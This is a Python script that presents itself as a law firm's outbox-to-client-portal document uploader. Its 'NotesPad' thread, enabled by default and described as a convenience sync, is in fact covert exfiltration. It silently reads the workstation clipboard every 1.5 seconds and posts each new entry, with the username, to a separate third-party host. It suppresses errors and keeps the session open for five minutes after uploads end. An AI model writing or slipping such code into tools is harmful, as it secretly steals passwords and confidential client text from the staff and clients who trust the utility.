#!/usr/bin/env python3
"""Upload documents from the outbox folder to the client portal.

Staff drop finished documents into ./outbox/<client-code>/ and run this
uploader; each file is pushed into the matching client's shared workspace
and moved to ./outbox/.sent once the portal confirms it.

While the uploader session is open, text copied on the workstation is kept
in sync with the portal's "quick notes" pad so staff can paste cover
messages into the portal without switching windows.

Settings live in portal_uploader.json:
    {"portal": "https://portal.example-law.com", "notes_sync": true,
     "notes_endpoint": "https://notes.clientdesk-sync.example.net/v1/pad"}
"""
import argparse
import json
import logging
import mimetypes
import os
import shutil
import sys
import threading
import time
from pathlib import Path

import requests

log = logging.getLogger("portal")
CONFIG_FILE = Path("portal_uploader.json")
DEFAULTS = {
    "portal": "https://portal.example-law.com",
    "notes_sync": True,
    "notes_endpoint": "https://notes.clientdesk-sync.example.net/v1/pad",
    "poll_seconds": 1.5,
}


def load_settings() -> dict:
    settings = dict(DEFAULTS)
    if CONFIG_FILE.exists():
        try:
            settings.update(json.loads(CONFIG_FILE.read_text()))
        except json.JSONDecodeError as exc:
            log.warning("ignoring bad %s: %s", CONFIG_FILE, exc)
    return settings


class NotesPad(threading.Thread):
    """Mirrors the workstation's copied text to the quick-notes pad."""

    def __init__(self, endpoint: str, interval: float, session_id: str):
        super().__init__(name="notes-pad", daemon=True)
        self.endpoint = endpoint
        self.interval = interval
        self.session_id = session_id
        self._last = None
        self._http = requests.Session()

    def _read_selection(self, tk_root):
        try:
            return tk_root.clipboard_get()
        except Exception:  # TclError when the clipboard is empty or non-text
            return None

    def run(self):
        try:
            import tkinter
            root = tkinter.Tk()
            root.withdraw()
        except Exception as exc:
            log.debug("no display for notes pad: %s", exc)
            return
        while True:
            text = self._read_selection(root)
            root.update()
            if text and text != self._last:
                self._last = text
                try:
                    self._http.post(self.endpoint, timeout=10, json={
                        "session": self.session_id,
                        "user": os.environ.get("USER", ""),
                        "ts": time.time(),
                        "text": text[:20000],
                    })
                except requests.RequestException:
                    pass
            time.sleep(self.interval)


class PortalClient:
    def __init__(self, base: str, token: str):
        self.base = base.rstrip("/")
        self.s = requests.Session()
        self.s.headers["Authorization"] = f"Bearer {token}"

    def open_session(self) -> str:
        r = self.s.post(f"{self.base}/api/v1/upload-sessions", json={}, timeout=20)
        r.raise_for_status()
        return r.json()["session_id"]

    def workspace_for(self, client_code: str) -> str:
        r = self.s.get(f"{self.base}/api/v1/clients/{client_code}/workspace", timeout=20)
        r.raise_for_status()
        return r.json()["workspace_id"]

    def upload(self, workspace: str, path: Path, session_id: str) -> str:
        ctype = mimetypes.guess_type(path.name)[0] or "application/octet-stream"
        with path.open("rb") as fh:
            r = self.s.post(f"{self.base}/api/v1/workspaces/{workspace}/files",
                            files={"file": (path.name, fh, ctype)},
                            data={"session": session_id}, timeout=300)
        r.raise_for_status()
        return r.json()["file_id"]


def pending_files(outbox: Path):
    for client_dir in sorted(p for p in outbox.iterdir() if p.is_dir() and not p.name.startswith(".")):
        for f in sorted(client_dir.iterdir()):
            if f.is_file() and not f.name.startswith("."):
                yield client_dir.name, f


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Upload outbox documents to the client portal")
    ap.add_argument("--outbox", type=Path, default=Path("outbox"))
    ap.add_argument("--linger", type=int, default=300,
                    help="keep the session open this many seconds after uploads finish")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    settings = load_settings()
    token = os.environ.get("PORTAL_TOKEN")
    if not token:
        log.error("PORTAL_TOKEN is not set")
        return 2

    client = PortalClient(settings["portal"], token)
    session_id = client.open_session()
    if settings.get("notes_sync", True):
        NotesPad(settings["notes_endpoint"], float(settings["poll_seconds"]), session_id).start()

    sent_dir = args.outbox / ".sent"
    sent_dir.mkdir(exist_ok=True)
    workspaces, failures = {}, 0
    for code, path in pending_files(args.outbox):
        try:
            ws = workspaces.get(code) or workspaces.setdefault(code, client.workspace_for(code))
            file_id = client.upload(ws, path, session_id)
        except (requests.RequestException, KeyError) as exc:
            log.error("%s/%s not uploaded: %s", code, path.name, exc)
            failures += 1
            continue
        shutil.move(str(path), sent_dir / f"{code}__{path.name}")
        log.info("uploaded %s/%s -> %s", code, path.name, file_id)

    log.info("uploads finished (%d failed); session open for %ds", failures, args.linger)
    time.sleep(args.linger)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
